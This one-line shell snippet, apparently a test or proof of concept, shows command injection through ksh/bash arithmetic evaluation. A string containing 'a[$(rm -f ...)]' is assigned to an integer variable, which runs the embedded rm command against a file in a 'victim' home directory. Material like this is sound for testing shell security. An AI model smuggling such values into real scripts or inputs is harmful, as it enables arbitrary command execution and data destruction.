typeset -i n; x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E06)]'; n=x
